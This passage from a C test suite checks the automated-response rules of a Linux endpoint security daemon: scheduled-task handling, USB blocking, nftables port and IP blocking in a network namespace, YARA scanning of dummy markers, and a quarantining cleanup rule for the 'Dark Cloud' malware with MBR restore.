	ck_assert_str_eq(get("var/spool/cron/crontabs/bob", buf, sizeof(buf)),
			 "# m h dom mon dow command\n0 1 * * * /usr/bin/backup\n");
	/* the re-enabled, rescheduled entry is what was deleted: restore it and look */
	ck_assert_uint_eq(restore_matching("/etc/cron.d/zjtest", false), 1);
	ck_assert_ptr_nonnull(strstr(get("etc/cron.d/zjtest", buf, sizeof(buf)),
				     "\n30 4 * * 1 root date +\\%F >> /tmp/x\n"));
}
END_TEST

START_TEST(test_task_timer)
{
	char buf[1024], link[PATH_MAX], target[PATH_MAX];
	struct zj_arr_run *run;
	ssize_t n;

	run = run_rule("{\"name\": \"timer\", \"actions\": ["
		       "{\"action\": \"Task_Create\", \"type\": \"timer\", \"task\": \"zjtest.timer\", "
		       "\"schedule\": \"*-*-* 03:00:00\", \"command\": \"echo \\\"100%\\\" $HOME\"},"
		       "{\"action\": \"Task_Modify\", \"type\": \"timer\", \"task\": \"zjtest\", "
		       "\"schedule\": \"hourly\"}"
		       "]}");
	expect(run, 0, ZJ_ARR_DONE);
	expect(run, 1, ZJ_ARR_DONE);
	zj_arr_run_free(run);
	ck_assert_ptr_nonnull(strstr(get("etc/systemd/system/zjtest.service", buf, sizeof(buf)),
				     "ExecStart=/bin/sh -c \"echo \\\"100%%\\\" $$HOME\"\n"));
	ck_assert_ptr_nonnull(strstr(get("etc/systemd/system/zjtest.timer", buf, sizeof(buf)),
				     "OnCalendar=*-*-* 03:00:00\n"));
	ck_assert_str_eq(get("etc/systemd/system/zjtest.timer.d/zhijia.conf", buf, sizeof(buf)),
			 "[Timer]\nOnCalendar=\nOnCalendar=hourly\n");
	pathf(link, sizeof(link), "etc/systemd/system/timers.target.wants/zjtest.timer");
	n = readlink(link, target, sizeof(target) - 1);
	ck_assert_int_gt(n, 0);
	target[n] = '\0';
	ck_assert_str_eq(target, "/etc/systemd/system/zjtest.timer");

	run = run_rule("{\"name\": \"timer\", \"actions\": ["
		       "{\"action\": \"Task_Modify\", \"type\": \"timer\", \"task\": \"zjtest\", "
		       "\"enabled\": false},"
		       "{\"action\": \"Task_Delete\", \"type\": \"timer\", \"task\": \"zjtest\"}"
		       "]}");
	expect(run, 0, ZJ_ARR_DONE);
	expect(run, 1, ZJ_ARR_DONE);
	zj_arr_run_free(run);
	ck_assert(!exists("etc/systemd/system/timers.target.wants/zjtest.timer"));
	ck_assert(!exists("etc/systemd/system/zjtest.timer"));
	ck_assert(!exists("etc/systemd/system/zjtest.service"));
	ck_assert(!exists("etc/systemd/system/zjtest.timer.d/zhijia.conf"));
	ck_assert_uint_eq(restore_matching("/system/zjtest.timer", false), 1);
	ck_assert(exists("etc/systemd/system/zjtest.timer"));

	/* zhijia's own unit is not a task a rule may delete (on the host: no root here) */
	{
		struct zj_arr_exec_opts o = {.q = q};

		run = run_rule_opts("{\"name\": \"timer\", \"actions\": ["
				    "{\"action\": \"Task_Delete\", \"type\": \"timer\", "
				    "\"task\": \"zhijiad\"}]}",
				    &o);
		expect(run, 0, ZJ_ARR_FAILED);
		ck_assert_int_eq(run->results[0].error, -EPERM);
		zj_arr_run_free(run);
	}
}
END_TEST

/* ---- other ---------------------------------------------------------------------------------- */

/* Bind "@name" and let it go: 0, or the negative errno of bind(). */
static int bind_abstract(const char *name)
{
	struct sockaddr_un a;
	int fd = socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0), r = 0;

	ck_assert_int_ge(fd, 0);
	memset(&a, 0, sizeof(a));
	a.sun_family = AF_UNIX;
	memcpy(a.sun_path + 1, name, strlen(name));
	if (bind(fd, (struct sockaddr *)&a,
		 (socklen_t)(offsetof(struct sockaddr_un, sun_path) + 1 + strlen(name))) < 0)
		r = -errno;
	close(fd);
	return r;
}

START_TEST(test_device_and_mutex)
{
	char buf[256], p[PATH_MAX];
	struct zj_arr_run *run;
	struct stat st;

	/* a fake sysfs under the root: two USB devices */
	mkdirs("sys/bus/usb/devices/1-1");
	mkdirs("sys/bus/usb/devices/2-3");
	put("sys/bus/usb/devices/1-1/authorized", "1\n");
	put("sys/bus/usb/devices/1-1/idVendor", "0781\n");
	put("sys/bus/usb/devices/1-1/idProduct", "5581\n");
	put("sys/bus/usb/devices/2-3/authorized", "1\n");
	put("sys/bus/usb/devices/2-3/idVendor", "046d\n");
	put("sys/bus/usb/devices/2-3/idProduct", "c52b\n");
	run = run_rule("{\"name\": \"usb\", \"actions\": ["
		       "{\"action\": \"Other_Device\", \"devices\": [\"0781:5581\"]},"
		       "{\"action\": \"Other_Device\", \"devices\": [\"2-3\"]},"
		       "{\"action\": \"Other_Create_Mutex\", \"mutex\": \"%s/.zjtest.lock\"},"
		       "{\"action\": \"Other_Create_Mutex\", \"mutex\": \"%s/.zjtest.lock\"}"
		       "]}");
	expect(run, 0, ZJ_ARR_DONE);
	expect(run, 1, ZJ_ARR_DONE);
	expect(run, 2, ZJ_ARR_DONE);
	expect(run, 3, ZJ_ARR_FAILED);
	zj_arr_run_free(run);
	ck_assert_int_eq(get("sys/bus/usb/devices/1-1/authorized", buf, sizeof(buf))[0], '0');
	ck_assert_int_eq(get("sys/bus/usb/devices/2-3/authorized", buf, sizeof(buf))[0], '0');
	ck_assert_ptr_nonnull(strstr(get("etc/udev/rules.d/70-zhijia-usb.rules", buf, sizeof(buf)),
				     "ATTR{idVendor}==\"0781\", ATTR{idProduct}==\"5581\", "
				     "ATTR{authorized}=\"0\""));
	pathf(p, sizeof(p), ".zjtest.lock");
	ck_assert_int_eq(lstat(p, &st), 0);
	ck_assert_uint_eq(st.st_mode & 07777, 0444);
	ck_assert_int_eq(unlink(p), -1); /* immutable */

	run = run_rule("{\"name\": \"usb\", \"actions\": ["
		       "{\"action\": \"Other_Device\", \"devices\": [\"0781:5581\"], \"undo\": true},"
		       "{\"action\": \"Other_Create_Mutex\", \"mutex\": \"%s/.zjtest.lock\", "
		       "\"undo\": true},"
		       "{\"action\": \"Other_Create_Mutex\", \"mutex\": \"@zjtest-mutex\"},"
		       "{\"action\": \"Other_Create_Mutex\", \"mutex\": \"@zjtest-mutex\"}"
		       "]}");
	expect(run, 0, ZJ_ARR_DONE);
	expect(run, 1, ZJ_ARR_DONE);
	expect(run, 2, ZJ_ARR_DONE);
	expect(run, 3, ZJ_ARR_FAILED); /* held already */
	ck_assert_int_eq(run->results[3].error, -EADDRINUSE);
	zj_arr_run_free(run);
	/* a family that takes the name as its lock cannot */
	ck_assert_int_eq(bind_abstract("zjtest-mutex"), -EADDRINUSE);
	run = run_rule("{\"name\": \"m\", \"actions\": ["
		       "{\"action\": \"Other_Create_Mutex\", \"mutex\": \"@zjtest-mutex\", "
		       "\"undo\": true},"
		       "{\"action\": \"Other_Create_Mutex\", \"mutex\": \"@zjtest-mutex\", "
		       "\"undo\": true}]}");
	expect(run, 0, ZJ_ARR_DONE);
	expect(run, 1, ZJ_ARR_SKIPPED);
	zj_arr_run_free(run);
	for (int i = 0; i < 100 && bind_abstract("zjtest-mutex") != 0; i++)
		usleep(10000);
	ck_assert_int_eq(bind_abstract("zjtest-mutex"), 0);
	ck_assert_int_eq(get("sys/bus/usb/devices/1-1/authorized", buf, sizeof(buf))[0], '1');
	ck_assert_str_eq(get("etc/udev/rules.d/70-zhijia-usb.rules", buf, sizeof(buf)), "");
	ck_assert(!exists(".zjtest.lock"));
}
END_TEST

/* In the child of test_network: no ck_assert here (it would unwind into the parent's copy). */
static int child_run(const char *text, enum zj_arr_status want)
{
	struct zj_arr_exec_opts o = {.root = root, .q = q};
	char err[ZJ_ARR_ERR_MAX];
	struct zj_arr_rule *rule = NULL;
	struct zj_arr_run *run = NULL;
	int ok;

	if (zj_arr_parse(text, strlen(text), "net.json", &rule, err, sizeof(err)) != 0)
		return 0;
	ok = zj_arr_exec_run(rule, &o, &run) == 0;
	for (size_t i = 0; ok && i < run->n_results; i++)
		ok = run->results[i].status == want;
	if (!ok && run) {
		char *t = NULL;

		if (zj_arr_run_to_text(run, &t) > 0)
			fprintf(stderr, "%s", t);
		free(t);
	}
	zj_arr_run_free(run);
	zj_arr_rule_free(rule);
	return ok;
}

static int can_connect(int port)
{
	struct sockaddr_in a = {.sin_family = AF_INET, .sin_port = htons((uint16_t)port),
				.sin_addr.s_addr = htonl(INADDR_LOOPBACK)};
	int fd = socket(AF_INET, SOCK_STREAM | SOCK_NONBLOCK | SOCK_CLOEXEC, 0), e = -1;
	socklen_t el = sizeof(e);
	struct pollfd p = {.fd = fd, .events = POLLOUT};

	if (fd < 0)
		return -1;
	if (connect(fd, (struct sockaddr *)&a, sizeof(a)) < 0 && errno != EINPROGRESS) {
		close(fd);
		return 0;
	}
	if (poll(&p, 1, 400) == 1)
		(void)getsockopt(fd, SOL_SOCKET, SO_ERROR, &e, &el);
	close(fd);
	return e == 0;
}

/* Real nftables in a network namespace of its own: the host's firewall is never touched. */
static int net_child(void)
{
	struct sockaddr_in a = {.sin_family = AF_INET, .sin_port = htons(8123),
				.sin_addr.s_addr = htonl(INADDR_LOOPBACK)};
	struct ifreq ifr;
	int s, l;

	if (unshare(CLONE_NEWNET) < 0)
		return 10;
	s = socket(AF_INET, SOCK_DGRAM | SOCK_CLOEXEC, 0);
	memset(&ifr, 0, sizeof(ifr));
	strcpy(ifr.ifr_name, "lo");
	if (s < 0 || ioctl(s, SIOCGIFFLAGS, &ifr) < 0)
		return 11;
	ifr.ifr_flags |= IFF_UP;
	if (ioctl(s, SIOCSIFFLAGS, &ifr) < 0)
		return 12;
	l = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
	if (l < 0 || bind(l, (struct sockaddr *)&a, sizeof(a)) < 0 || listen(l, 64) < 0)
		return 13;
	if (can_connect(8123) != 1)
		return 14;
	if (!child_run("{\"name\": \"p\", \"actions\": [{\"action\": \"Other_Disabled_Port\", "
		       "\"ports\": [8123], \"protocol\": \"tcp\", \"direction\": \"in\"}]}",
		       ZJ_ARR_DONE))
		return 15;
	if (can_connect(8123) != 0)
		return 16; /* the port is blocked: the SYN is dropped */
	if (!child_run("{\"name\": \"p\", \"actions\": [{\"action\": \"Other_Disabled_Port\", "
		       "\"ports\": [8123], \"protocol\": \"tcp\", \"direction\": \"in\", "
		       "\"undo\": true}]}",
		       ZJ_ARR_DONE))
		return 17;
	if (can_connect(8123) != 1)
		return 18;
	if (!child_run("{\"name\": \"i\", \"actions\": [{\"action\": \"Other_Disabled_Ip\", "
		       "\"ips\": [\"203.0.113.0/24\", \"2001:db8::/32\"]},"
		       "{\"action\": \"Other_NetOff\", \"management\": [\"192.0.2.10\"]}]}",
		       ZJ_ARR_DONE))
		return 19;
	if (can_connect(8123) != 1)
		return 20; /* loopback stays open under isolation */
	if (system("nft list chain inet zhijia netoff_out | grep -q 'ip daddr 192.0.2.10 accept'"))
		return 21;
	if (system("nft list set inet zhijia ip4_out | grep -q '203.0.113.0/24'"))
		return 22;
	if (!child_run("{\"name\": \"u\", \"actions\": [{\"action\": \"Other_NetOff\", "
		       "\"undo\": true}]}",
		       ZJ_ARR_DONE))
		return 23;
	if (system("nft list chain inet zhijia netoff_in >/dev/null 2>&1") == 0)
		return 24;
	/* a restart: the table is gone, and comes back as the rules left it */
	if (!child_run("{\"name\": \"p\", \"actions\": [{\"action\": \"Other_Disabled_Port\", "
		       "\"ports\": [8123], \"protocol\": \"tcp\", \"direction\": \"in\"}]}",
		       ZJ_ARR_DONE))
		return 25;
	if (system("nft delete table inet zhijia") != 0 || can_connect(8123) != 1)
		return 26;
	if (zj_arr_net_restore(root) != 1 || can_connect(8123) != 0)
		return 27;
	return 0;
}

START_TEST(test_network)
{
	struct zj_arr_run *run;
	bool have_nft = access("/usr/sbin/nft", X_OK) == 0 || access("/sbin/nft", X_OK) == 0;
	int status;
	pid_t pid;

	if (have_nft) {
		pid = fork();
		ck_assert_int_ge(pid, 0);
		if (pid == 0)
			_exit(net_child());
		ck_assert_int_eq(waitpid(pid, &status, 0), pid);
		ck_assert_msg(WIFEXITED(status) && WEXITSTATUS(status) == 0,
			      "network test in a namespace failed at step %d",
			      WIFEXITED(status) ? WEXITSTATUS(status) : -1);
		return;
	}
	run = run_rule("{\"name\": \"net\", \"actions\": ["
		       "{\"action\": \"Other_NetOff\", \"management\": [\"192.0.2.10\"]},"
		       "{\"action\": \"Other_Disabled_Port\", \"ports\": [22, \"8000-8100\"]},"
		       "{\"action\": \"Other_Disabled_Ip\", \"ips\": [\"203.0.113.0/24\"]}"
		       "]}");
	for (size_t i = 0; i < 3; i++) {
		expect(run, i, ZJ_ARR_FAILED);
		ck_assert_int_eq(run->results[i].error, -ENOENT);
		ck_assert_ptr_nonnull(strstr(run->results[i].reason, "nft is not installed"));
	}
	zj_arr_run_free(run);
}
END_TEST

START_TEST(test_quickscan)
{
	struct zj_arr_run *run;

	run = run_rule("{\"name\": \"scan\", \"actions\": [{\"action\": \"Other_QuickScan\"}]}");
	expect(run, 0, ZJ_ARR_SKIPPED); /* no rules under the root */
	ck_assert_ptr_nonnull(strstr(run->results[0].reason, "no YARA rules"));
	zj_arr_run_free(run);

	mkdirs("etc/zhijia/rules.d");
	put("etc/zhijia/rules.d/t.yar", "rule zjtest_marker { strings: $a = { 5A 4A 2D 45 56 49 4C } "
					"condition: $a }\n");
	mkdirs("home/u");
	put("home/u/payload.bin", "xx ZJ-EVIL-MARKER yy");
	put("home/u/clean.bin", "nothing");
	run = run_rule("{\"name\": \"scan\", \"actions\": [{\"action\": \"Other_QuickScan\", "
		       "\"condition\": \"alldisk\"}]}");
	expect(run, 0, ZJ_ARR_DONE);
	ck_assert_uint_eq(run->results[0].objects.n, 1);
	ck_assert_ptr_nonnull(strstr(run->results[0].objects.v[0], "payload.bin matches"));
	zj_arr_run_free(run);

	/* without a scope: a running process that maps the payload is found through its maps */
	{
		char mod[PATH_MAX];

		put("home/u/loaded.so", "yy ZJ-EVIL-MARKER zz, mapped");
		pathf(mod, sizeof(mod), "home/u/loaded.so");
		(void)spawn_victim("zjscanvictim", mod, 0);
		run = run_rule("{\"name\": \"scan\", \"actions\": [{\"action\": "
			       "\"Other_QuickScan\"}]}");
		expect(run, 0, ZJ_ARR_DONE);
		ck_assert_uint_ge(run->results[0].objects.n, 1);
		bool found = false;

		for (size_t i = 0; i < run->results[0].objects.n; i++)
			found = found || strstr(run->results[0].objects.v[i], "loaded.so matches");
		ck_assert_msg(found, "the mapped payload was not found");
		zj_arr_run_free(run);
	}
}
END_TEST

/* ---- the brief's cleanup rule, verbatim -------------------------------------------------- */

static const char cleanup_rule[] =
	"{\n"
	"  \"name\": \"暗云清除规则\",\n"
	"  \"actions\": [\n"
	"    {\n"
	"      \"action\": \"Proc_Module_Threads\",\n"
	"      \"modules\": [\"upcfg.db\", \"DtCrashCatch.dll\"],\n"
	"      \"condition\": \"\"\n"
	"    },\n"
	"    {\n"
	"      \"action\": \"File_Delete\",\n"
	"      \"filenames\": [\"upcfg.db\", \"DtCrashCatch.dll\", \"DrvSvc.zip\"],\n"
	"      \"condition\": \"alldisk\"\n"
	"    },\n"
	"    {\n"
	"      \"action\": \"File_repairMbr\",\n"
	"      \"data\": \"backup\",\n"
	"      \"condition\": \"[equal],[offset:0],[31 C0 FA 31 D8 8E D3 36 89 26 FE 7B BC FE 7B "
	"1E]\"\n"
	"    },\n"
	"    {\n"
	"      \"action\": \"Other_QuickScan\"\n"
	"    }\n"
	"  ]\n"
	"}\n";

START_TEST(test_cleanup_rule_verbatim)
{
	unsigned char good[512], now[512];
	char disk[PATH_MAX], mod[PATH_MAX], buf[64], err[ZJ_ARR_ERR_MAX];
	const char *disks[] = {disk, NULL};
	struct zj_arr_exec_opts o = {.root = root, .q = q, .system_disks = disks};
	struct zj_arr_rule *rule = NULL;
	struct zj_arr_plan *plan = NULL;
	struct zj_arr_run *run = NULL;
	char *text = NULL;
	pid_t v;

	/* the planted scenario */
	mkdirs("Windows/System32");
	mkdirs("home/u/.cache/x");
	mkdirs("var/tmp");
	put("home/u/.cache/x/upcfg.db", "upcfg");
	put("Windows/System32/DtCrashCatch.dll", "MZ dtcrashcatch");
	put("var/tmp/DrvSvc.zip", "PK drvsvc");
	put("home/u/DrvSvc.zip", "PK drvsvc 2");
	make_disk("disk.img", good);
	pathf(disk, sizeof(disk), "disk.img");
	pathf(mod, sizeof(mod), "Windows/System32/DtCrashCatch.dll");
	v = spawn_victim("zjdarkcloud", mod, 2);

	ck_assert_int_eq(zj_arr_parse(cleanup_rule, strlen(cleanup_rule), "darkcloud.json", &rule,
				      err, sizeof(err)),
			 0);

	/* a dry run finds what the run will touch, and touches nothing */
	ck_assert_int_eq(zj_arr_exec_plan(rule, &o, &plan), 0);
	ck_assert_uint_eq(plan->n_steps, 4);
	ck_assert_uint_eq(plan->steps[0].objects.n, 1);
	ck_assert_uint_eq(plan->steps[1].objects.n, 4);
	ck_assert_uint_eq(plan->steps[2].objects.n, 1);
	zj_arr_plan_free(plan);
	ck_assert_int_lt(all_stopped(v), 0);
	ck_assert(exists("var/tmp/DrvSvc.zip"));

	ck_assert_int_eq(zj_arr_exec_run(rule, &o, &run), 0);
	zj_arr_rule_free(rule);
	ck_assert_int_gt(zj_arr_run_to_text(run, &text), 0);
	expect(run, 0, ZJ_ARR_DONE);
	expect(run, 1, ZJ_ARR_DONE);
	expect(run, 2, ZJ_ARR_DONE);
	expect(run, 3, ZJ_ARR_SKIPPED); /* no YARA rules in this root: says so */
	ck_assert_uint_eq(run->results[1].objects.n, 4);
	free(text);
	zj_arr_run_free(run);

	/* the process's threads are suspended */
	ck_assert_int_eq(all_stopped(v), 3 + extra_threads());
	/* the files are gone, kept in quarantine */
	ck_assert(!exists("home/u/.cache/x/upcfg.db"));
	ck_assert(!exists("Windows/System32/DtCrashCatch.dll"));
	ck_assert(!exists("var/tmp/DrvSvc.zip") && !exists("home/u/DrvSvc.zip"));
	/* sector 0 is the backup */
	sector0("disk.img", now);
	ck_assert_mem_eq(now, good, 512);
	/* 4 files and a sector */
	ck_assert_uint_eq(quarantine_count(), 5);
	/* and the files are restorable */
	ck_assert_uint_eq(restore_matching("/upcfg.db", false), 1);
	ck_assert_uint_eq(restore_matching("/DtCrashCatch.dll", false), 1);
	ck_assert_uint_eq(restore_matching("/DrvSvc.zip", true), 2);
	ck_assert_str_eq(get("home/u/.cache/x/upcfg.db", buf, sizeof(buf)), "upcfg");
	ck_assert_str_eq(get("Windows/System32/DtCrashCatch.dll", buf, sizeof(buf)),
			 "MZ dtcrashcatch");
	ck_assert_str_eq(get("var/tmp/DrvSvc.zip", buf, sizeof(buf)), "PK drvsvc");
	ck_assert_str_eq(get("home/u/DrvSvc.zip", buf, sizeof(buf)), "PK drvsvc 2");
}
END_TEST

START_TEST(test_run_json)
{
	struct zj_arr_run *run;
	json_object *o, *results, *r0;
	char *text = NULL;

	put("x.txt", "x");
	run = run_rule("{\"name\": \"json\", \"actions\": ["
		       "{\"action\": \"File_Delete\", \"filenames\": [\"%s/x.txt\"]},"
		       "{\"action\": \"File_Delete\", \"filenames\": [\"%s/x.txt\"]}]}");
	ck_assert_int_gt(zj_arr_run_to_json(run, &text), 0);
	ck_assert_ptr_null(strchr(text, '\n'));
	o = json_tokener_parse(text);
	ck_assert_ptr_nonnull(o);
	ck_assert(json_object_object_get_ex(o, "results", &results));
	ck_assert_uint_eq(json_object_array_length(results), 2);
	r0 = json_object_array_get_idx(results, 0);
	ck_assert_str_eq(json_object_get_string(json_object_object_get(r0, "status")), "done");
	ck_assert_str_eq(json_object_get_string(json_object_object_get(r0, "action")),
			 "File_Delete");
	ck_assert_str_eq(json_object_get_string(json_object_object_get(
				 json_object_array_get_idx(results, 1), "status")),
			 "skipped");
	ck_assert_int_eq(json_object_get_int(json_object_object_get(o, "done")), 1);
	json_object_put(o);
	free(text);
	zj_arr_run_free(run);
}
END_TEST

/* A rule with variables runs only after zj_arr_expand(). */
START_TEST(test_refuses_templates)
{
	const char *t = "{\"name\": \"t\", \"actions\": [{\"action\": \"Proc_Terminate\", "
			"\"pids\": [\"${actor.pid}\"]}]}";
	struct zj_arr_exec_opts o = {.root = root, .q = q};
	char err[ZJ_ARR_ERR_MAX];
	struct zj_arr_rule *rule;
	struct zj_arr_run *run = NULL;

	ck_assert_int_eq(zj_arr_parse(t, strlen(t), "t", &rule, err, sizeof(err)), 0);
	ck_assert_int_eq(zj_arr_exec_run(rule, &o, &run), -EINVAL);
	ck_assert_ptr_null(run);
	zj_arr_rule_free(rule);
}
END_TEST


START_TEST(test_inbox)
{
	char inbox[PATH_MAX], p[PATH_MAX], log[PATH_MAX], buf[4096];
	struct zj_arr_exec_opts o = {.root = root, .q = q};
	json_object *res, *v;
	size_t ran = 9;
	int lines = 0;

	/*
	 * The inbox parses each rule in a seccomp sandbox (sandbox.c) whose filter is for this
	 * build's architecture; under qemu-user the kernel sees the emulator's host syscalls, so
	 * the filter kills the parser and every rule is refused.  The sandbox runs natively.
	 */
	if (extra_threads() > 0) {
		printf("check_arr_exec: test_inbox: SKIP under qemu-user: the parser's seccomp filter "
		       "sees the emulator's host syscalls\n");
		return;
	}
	pathf(inbox, sizeof(inbox), "inbox");
	pathf(log, sizeof(log), "log/events.jsonl");
	ck_assert_int_eq(zj_arr_inbox_init(inbox), 0);
	put("victim.txt", "v");
	snprintf(buf, sizeof(buf),
		 "{\"name\": \"soar 1\", \"actions\": [{\"action\": \"File_Delete\", "
		 "\"filenames\": [\"%s/victim.txt\"]}]}",
		 root);
	put("inbox/10-good.json", buf);
	put("inbox/20-bad.json", "{\"name\": \"x\", \"actions\": [{\"action\": \"Reg_Delete\"}]}");
	put("inbox/30-vars.json", "{\"name\": \"x\", \"actions\": [{\"action\": "
				  "\"Proc_Terminate\", \"pids\": [\"${actor.pid}\"]}]}");
	put("inbox/40-foreign.json", buf);
	pathf(p, sizeof(p), "inbox/40-foreign.json");
	ck_assert_int_eq(chown(p, 1234, 1234), 0);
	put("inbox/notes.txt", "not a rule");
	ck_assert_int_eq(zj_arr_inbox_pending(inbox), 4);

	ck_assert_int_eq(zj_arr_inbox_run(inbox, &o, log, &ran), 0);
	ck_assert_uint_eq(ran, 4);
	ck_assert(!exists("victim.txt"));
	res = json_tokener_parse(get("inbox/10-good.json.result", buf, sizeof(buf)));
	ck_assert_ptr_nonnull(res);
	ck_assert_str_eq(json_object_get_string(json_object_object_get(res, "state")), "finished");
	ck_assert(json_object_get_boolean(json_object_object_get(res, "ok")));
	ck_assert(json_object_object_get_ex(res, "run", &v));
	ck_assert_int_eq(json_object_get_int(json_object_object_get(v, "done")), 1);
	json_object_put(res);
	res = json_tokener_parse(get("inbox/20-bad.json.result", buf, sizeof(buf)));
	ck_assert_str_eq(json_object_get_string(json_object_object_get(res, "state")), "refused");
	ck_assert_ptr_nonnull(strstr(json_object_get_string(json_object_object_get(res, "error")),
				     "Reg_Delete is not supported on linux"));
	json_object_put(res);
	ck_assert_ptr_nonnull(strstr(get("inbox/30-vars.json.result", buf, sizeof(buf)),
				     "runs only for a finding"));
	ck_assert_ptr_nonnull(strstr(get("inbox/40-foreign.json.result", buf, sizeof(buf)),
				     "owned by root"));
	/* one line in the event log, for the rule that ran */
	get("log/events.jsonl", buf, sizeof(buf));
	for (char *c = buf; *c; c++)
		lines += *c == '\n';
	ck_assert_int_eq(lines, 1);
	ck_assert_ptr_nonnull(strstr(buf, "\"source\":\"inbox\""));
	ck_assert_ptr_nonnull(strstr(buf, "\"file\":\"10-good.json\""));

	/* each file runs once */
	put("victim.txt", "v");
	ck_assert_int_eq(zj_arr_inbox_pending(inbox), 0);
	ck_assert_int_eq(zj_arr_inbox_run(inbox, &o, log, &ran), 0);
	ck_assert_uint_eq(ran, 0);
	ck_assert(exists("victim.txt"));

	/* an inbox others can write to is refused as a whole */
	ck_assert_int_eq(chmod(inbox, 0777), 0);
	ck_assert_int_eq(zj_arr_inbox_pending(inbox), -EPERM);
	ck_assert_int_eq(zj_arr_inbox_run(inbox, &o, log, &ran), -EPERM);
}
END_TEST

static void count_warn(void *userdata, const char *file, const char *error)
{
	(*(int *)userdata)++;
	ck_assert_ptr_nonnull(strstr(file, "T1053.json"));
	ck_assert_ptr_nonnull(strstr(error, "Reg_Delete is not supported on linux"));
}

START_TEST(test_dispose)
{
	char dir[PATH_MAX], exe[PATH_MAX], log[PATH_MAX], buf[4096];
	struct zj_arr_exec_opts o = {.root = root, .q = q};
	struct zj_arr_bindings *b = NULL;
	struct zj_arr_disposer dp;
	const struct zj_arr_rule *rule;
	struct zj_finding f;
	struct zj_event ev;
	int warned = 0, status;
	size_t slot;
	pid_t v;

	mkdirs("arr.d");
	put("arr.d/T1055.008.json",
	    "{\"name\": \"ptrace injector\", \"actions\": ["
	    "{\"action\": \"Proc_Terminate\", \"pids\": [\"${actor.pid}\"]},"
	    "{\"action\": \"File_Delete\", \"filenames\": [\"${actor.exe}\"]}]}");
	put("arr.d/T1055.009.json",
	    "{\"name\": \"needs a target\", \"actions\": ["
	    "{\"action\": \"Proc_Terminate\", \"pids\": [\"${target.pid}\"]}]}");
	put("arr.d/T1053.json", "{\"name\": \"x\", \"actions\": [{\"action\": \"Reg_Delete\"}]}");
	put("arr.d/README.json", "not a technique: ignored");
	pathf(dir, sizeof(dir), "arr.d");
	ck_assert_int_eq(zj_arr_bindings_load(dir, count_warn, &warned, &b), 0);
	ck_assert_int_eq(warned, 1);
	ck_assert_uint_eq(zj_arr_bindings_count(b), 2);
	ck_assert_ptr_null(zj_arr_bindings_find(b, "T1055"));
	rule = zj_arr_bindings_find(b, "T1055.008");
	ck_assert_ptr_nonnull(rule);
	ck_assert(rule->needs_ctx);

	/* the finding: a planted "injector" ptrace-attached something */
	put("injector", "ELF-ish");
	pathf(exe, sizeof(exe), "injector");
	v = spawn_victim("zjinjector", NULL, 0);
	memset(&ev, 0, sizeof(ev));
	memset(&f, 0, sizeof(f));
	ev.type = ZJ_EV_PTRACE;
	ev.seq = 77;
	ev.actor.pid = (uint32_t)v;
	ev.actor.exe.ptr = exe;
	ev.actor.exe.len = strlen(exe);
	snprintf(ev.actor.comm, sizeof(ev.actor.comm), "zjinjector");
	snprintf(f.technique, sizeof(f.technique), "T1055.008");
	pathf(log, sizeof(log), "events.jsonl");

	ck_assert_int_eq(zj_arr_dispose_run(rule, &ev, &f, &o, log), 0);
	ck_assert_int_eq(waitpid(v, &status, 0), v);
	ck_assert(WIFSIGNALED(status) && WTERMSIG(status) == SIGKILL);
	n_children = 0;
	ck_assert(!exists("injector"));
	ck_assert_uint_eq(restore_matching("/injector", false), 1);
	get("events.jsonl", buf, sizeof(buf));
	ck_assert_ptr_nonnull(strstr(buf, "\"source\":\"finding\""));
	ck_assert_ptr_nonnull(strstr(buf, "\"technique\":\"T1055.008\""));
	ck_assert_ptr_nonnull(strstr(buf, "\"event\":77"));
	ck_assert_ptr_nonnull(strstr(buf, "\"done\":2"));

	/* a variable the finding has no value for: refused, logged, nothing run */
	ck_assert_int_eq(zj_arr_dispose_run(zj_arr_bindings_find(b, "T1055.009"), &ev, &f, &o, log),
			 -EINVAL);
	get("events.jsonl", buf, sizeof(buf));
	ck_assert_ptr_nonnull(strstr(buf, "\"refused\":\"actions[0].pids[0]: ${target.pid}"));
	zj_arr_bindings_free(b);

	/* the disposer: one per technique per second, never zhijiad's own doing */
	memset(&dp, 0, sizeof(dp));
	ck_assert(zj_arr_disposer_admit(&dp, &ev, "T1055.008", 1000, &slot));
	dp.pids[slot] = 999999;
	ck_assert(!zj_arr_disposer_admit(&dp, &ev, "T1055.008", 1000, &slot));
	ck_assert(zj_arr_disposer_admit(&dp, &ev, "T1055.008", 1001, &slot));
	ck_assert(zj_arr_disposer_admit(&dp, &ev, "T1053.003", 1001, &slot));
	ev.actor.ppid = 999999; /* started by a disposal child */
	ck_assert(!zj_arr_disposer_admit(&dp, &ev, "T1055.009", 1001, &slot));
	ev.actor.ppid = 1;
	ev.actor.pid = (uint32_t)getpid(); /* zhijiad itself */
	ck_assert(!zj_arr_disposer_admit(&dp, &ev, "T1055.009", 1001, &slot));
	ck_assert_uint_eq(dp.started, 3);
	ck_assert_uint_eq(dp.dropped, 1);
}
END_TEST

/* Proc_Create starts a program; Proc_Terminate finds it by its executable. */
START_TEST(test_proc_by_executable)
{
	char prog[PATH_MAX], stat[PATH_MAX], buf[512];
	struct zj_arr_run *run;
	const char *s;
	int pid = 0, fd, gone = 0;

	pathf(prog, sizeof(prog), "zjsleeper");
	{
		char cmd[PATH_MAX + 32];

		snprintf(cmd, sizeof(cmd), "cp /bin/sleep %s", prog);
		ck_assert_int_eq(system(cmd), 0);
	}
	run = run_rule("{\"name\": \"c\", \"actions\": [{\"action\": \"Proc_Create\", \"path\": "
		       "\"%s/zjsleeper\", \"args\": [\"30\"]}]}");
	expect(run, 0, ZJ_ARR_DONE);
	s = strstr(run->results[0].objects.v[0], "as pid ");
	ck_assert_ptr_nonnull(s);
	pid = atoi(s + 7);
	zj_arr_run_free(run);
	ck_assert_int_gt(pid, 1);
	snprintf(stat, sizeof(stat), "/proc/%d/exe", pid);
	for (int i = 0; i < 200; i++) { /* until it has exec'ed */
		ssize_t n = readlink(stat, buf, sizeof(buf) - 1);

		if (n > 0 && (buf[n] = '\0', strcmp(buf, prog) == 0))
			break;
		usleep(10000);
	}

	run = run_rule("{\"name\": \"t\", \"actions\": [{\"action\": \"Proc_Terminate\", "
		       "\"executables\": [\"%s/zjsleeper\"]}]}");
	expect(run, 0, ZJ_ARR_DONE);
	ck_assert_uint_eq(run->results[0].objects.n, 1);
	zj_arr_run_free(run);
	/* gone, or a zombie waiting for init */
	snprintf(stat, sizeof(stat), "/proc/%d/stat", pid);
	for (int i = 0; i < 200 && !gone; i++) {
		ssize_t n;

